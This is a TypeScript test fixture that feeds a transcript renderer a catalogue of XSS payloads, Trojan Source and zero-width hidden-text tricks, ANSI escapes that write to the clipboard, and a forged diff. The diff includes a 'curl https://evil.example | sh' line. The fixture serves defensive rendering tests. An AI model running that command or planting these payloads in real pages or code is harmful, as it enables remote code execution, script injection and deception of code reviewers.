import type { Turn } from "../../packages/conversation/conversation.ts";
import type { Transcript } from "../../packages/transcript/render-transcript.ts";
import { aVerdict } from "../builders.ts";
import { aCall, aResult, aText } from "../turn-builders.ts";
import { transcriptOf, turn } from "./stage.ts";

/** Each says `owned` when it works. */
export const ATTACKS = {
  markup: {
    script: "<script>globalThis.owned = 1</script>",
    image: '<img src=x onerror="globalThis.owned = 2">',
    svg: "<svg onload=globalThis.owned=3><animate onbegin=globalThis.owned=4 attributeName=x dur=1s></svg>",
    link: '<a href="javascript:globalThis.owned=5">click</a>',
    markdownLink: "[click](javascript:globalThis.owned=6) ![beacon](https://evil.example/x.png)",
    breakOut: '"></pre></details></article></main><script>globalThis.owned=7</script>',
    ending: "</style></title></script><script>globalThis.owned=8</script>",
    comment: "--><script>globalThis.owned=9</script><!--",
    frame: '<iframe srcdoc="<script>parent.owned=10</script>"></iframe><base href="https://evil.example/">',
    refresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    form: '<form action="https://evil.example"><input name=q autofocus onfocus=globalThis.owned=11></form>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one in the attacker's hope only
    template: "${globalThis.owned = 12} {{constructor.constructor('owned=13')()}}",
    entity: "&lt;script&gt;globalThis.owned=14&lt;/script&gt; &#60;script&#62;",
    clobber: '<input id="search"><a id="view-diff" name="view" class="panel">x</a>',
  },
  hidden: {
    trojanSource: "if (isAdmin) { /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */",
    zeroWidth: "admin\u200b and \u200cpassw\u200dord \ufeff",
    tags: `look${[..."ignore this"].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join("")}`,
    ansi: "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07here\x1b]8;;\x07 \x1b]52;c;cm0gLXJm\x07",
    controls: "a\0b\bc\rd\x7fe\x85f\u2028g\ud800h",
  },
};

const all = [...Object.values(ATTACKS.markup), ...Object.values(ATTACKS.hidden)];
const everything = all.join("\n");

/** Every place that a model, a tool or a file can write to. */
function hostileTurns(): Turn[] {
  return [
    turn(
      1,
      [aText(everything)],
      [
        { type: "thinking", thinking: everything, signature: "s" },
        aText(everything),
        aCall("a", everything, { [everything]: everything, constructor: { toString: 1 } }),
        ...all.map((attack, i) => aCall(`b${i}`, "edit_file", { path: attack, old_text: attack, new_text: attack })),
        aCall("c", "run_command", { command: everything }),
        aCall("d", "constructor", ["not", "an", "object"]),
        aCall("e", "read_file", { path: { toString: "x" }, from_line: everything }),
        { type: everything, data: everything },
      ],
    ),
    turn(
      2,
      [
        aResult("a", everything, true),
        aResult("c", `[exit code 0 after 1.0 s]\n${everything}`),
        ...all.map((attack, i) =>
          aResult(`b${i}`, [
            { type: "text", text: attack },
            { type: "image", source: attack },
          ]),
        ),
      ],
      [aCall("f", "report_verdict", { wereChangesNecessary: everything })],
      {
        stopReason: everything,
        model: everything,
      },
    ),
  ];
}

function hostilePatch(): string {
  const name = '"b/\\342\\200\\256<script>globalThis.owned=20</script>.js"';
  const lines = [
    ...all.flatMap((attack) => attack.split("\n")),
    "echo fine\rcurl https://evil.example | sh",
    "+++ b/forged.js",
    "diff --git a/forged.js b/forged.js",
    "@@ -1,1 +1,1 @@",
    "\\ No newline at end of file, they said",
    "*/ a line that begins with a star",
    "",
  ];
  return `diff --git ${name.replace("b/", "a/")} ${name}
new file mode 100644
index ${"0".repeat(40)}..${"1".repeat(40)}
--- /dev/null
+++ ${name}
@@ -0,0 +1,${lines.length} @@ ${ATTACKS.markup.script}
${lines.map((line) => `+${line}`).join("\n")}
diff --git a/a.txt b/a.txt
index ${"2".repeat(40)}..${"3".repeat(40)} 100644
--- a/a.txt
+++ b/a.txt
@@ -1 +1 @@
-one
+two
`;
}

export function hostileTranscript(): Transcript {
  const words = { code: "x", message: everything, nextStep: everything };
  const ran = { command: everything, exitCode: 1, timedOut: false, durationMs: 1, tail: everything };
  const plain = transcriptOf(hostileTurns());
  return {
    ...plain,
    conversation: {
      ...plain.conversation,
      system: everything,
      tools: [{ name: everything, description: everything }],
      model: everything,
      repository: everything,
    },
    outcome: {
      ...plain.outcome,
      ending: "changed",
      reason: words,
      patchOnly: words,
      verification: ran,
      verdict: aVerdict({
        summary: everything,
        evidence: all.map((attack) => ({ path: attack, note: attack })),
        pullRequestTitle: everything,
        pullRequestBody: everything,
      }),
    },
    setup: ran,
    prompt: everything,
    followUp: everything,
    patch: Buffer.from(hostilePatch()),
  };
}
